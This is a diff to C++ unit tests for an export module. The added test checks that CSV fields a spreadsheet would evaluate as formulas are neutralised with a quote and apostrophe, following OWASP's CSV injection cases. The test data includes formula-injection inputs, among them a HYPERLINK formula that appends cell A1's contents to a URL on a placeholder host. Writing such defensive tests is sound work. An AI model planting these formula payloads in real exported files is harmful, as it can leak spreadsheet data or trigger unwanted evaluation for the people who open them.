@@ -27,12 +27,37 @@ TEST(ExportFormat, CsvQuotesOnlyWhatMustBeQuoted) {
     EXPECT_EQ(CsvHeader().substr(0, 18), "visit_id,kiosk_id,");
 }
 
+// OWASP's CSV injection cases: a cell a spreadsheet would evaluate is quoted
+// and begins with an apostrophe; the same text elsewhere in a cell is left.
+TEST(ExportFormat, CsvNeutralisesCellsASpreadsheetWouldEvaluate) {
+    EXPECT_EQ(CsvField("=1+2"), "\"'=1+2\"");
+    EXPECT_EQ(CsvField("+44 20"), "\"'+44 20\"");
+    EXPECT_EQ(CsvField("-1"), "\"'-1\"");
+    EXPECT_EQ(CsvField("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
+    EXPECT_EQ(CsvField("\t=1"), "\"'\t=1\"");
+    EXPECT_EQ(CsvField("\r=1"), "\"'\r=1\"");
+    EXPECT_EQ(CsvField("\xEF\xBC\x9D"
+                       "1+2"),
+              "\"'\xEF\xBC\x9D"
+              "1+2\"")
+        << "a full-width equals sign";
+    EXPECT_EQ(CsvField("=HYPERLINK(\"http://x/?\"&A1,\"go\")"),
+              "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"go\"\")\"")
+        << "quotes still doubled";
+    EXPECT_EQ(CsvField("1+2=3"), "1+2=3") << "only the first character counts";
+    EXPECT_EQ(CsvField("'=1"), "'=1") << "already text to a spreadsheet";
+    EXPECT_TRUE(SpreadsheetWouldEvaluate("=1"));
+    EXPECT_FALSE(SpreadsheetWouldEvaluate(""));
+    EXPECT_FALSE(SpreadsheetWouldEvaluate("Gwell gofal"));
+}
+
 TEST(ExportFormat, JsonEscapesQuotesBackslashesAndControls) {
     EXPECT_EQ(JsonString("plain"), "\"plain\"");
     EXPECT_EQ(JsonString("a \"b\" \\ c"), "\"a \\\"b\\\" \\\\ c\"");
     EXPECT_EQ(JsonString("l1\nl2\r\t"), "\"l1\\nl2\\r\\t\"");
     EXPECT_EQ(JsonString(std::string("\x01", 1)), "\"\\u0001\"");
     EXPECT_EQ(JsonString("ŵ"), "\"ŵ\"");
+    EXPECT_EQ(JsonString("=1+2"), "\"=1+2\"") << "JSON keeps a formula's text exact";
     ExportFields fields;
     fields[2] = "3";
     fields[5] = "1";
